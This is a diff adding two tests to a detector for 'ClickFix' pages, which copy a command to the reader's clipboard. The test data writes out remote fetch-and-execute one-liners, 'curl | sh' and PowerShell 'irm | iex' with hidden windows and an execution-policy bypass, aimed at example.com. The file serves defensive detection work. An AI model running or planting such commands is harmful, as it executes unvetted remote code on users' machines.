@@ -193,6 +193,38 @@ suite('a page that makes the reader run a command', () => {
     )
   })
 
+  test('after a harmless command for another system', () => {
+    const buttons = [
+      'curl -fsSL https://example.com/i.sh | sh',
+      'powershell -w hidden -c "irm https://example.org/i | iex"',
+    ]
+      .map((command) => `navigator.clipboard.writeText(${JSON.stringify(command)})`)
+      .join(';')
+    has(html(buttons, PARAGRAPH), 'Html.ClickFix')
+    has(html(buttons.replace('-w hidden ', ''), `${PARAGRAPH}${LURE}`), 'Html.ClickFix')
+  })
+
+  test('and not the installer of a tool, whatever its page says of terminals and checks', () => {
+    const COMMANDS = [
+      'powershell -ExecutionPolicy ByPass -c "irm https://example.com/install.ps1 | iex"',
+      'powershell -c "irm example.com/install.ps1 | iex"',
+      "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))",
+      'curl -fsSL https://example.com/install.sh | sh',
+    ]
+    const texts = [
+      '<h1>Install the tool</h1><p>Open a terminal, run this and verify the installation.</p>',
+      '<p>Windows</p>',
+    ]
+    for (const command of COMMANDS)
+      for (const text of texts)
+        harmless(
+          html(
+            'b.onclick=()=>navigator.clipboard.writeText(b.dataset.c)',
+            `${text}<button id=b data-c="${command.replaceAll('"', '&quot;')}">Copy</button>`,
+          ),
+        )
+  })
+
   test('but not documentation with a copy button', () => {
     harmless(
       html(
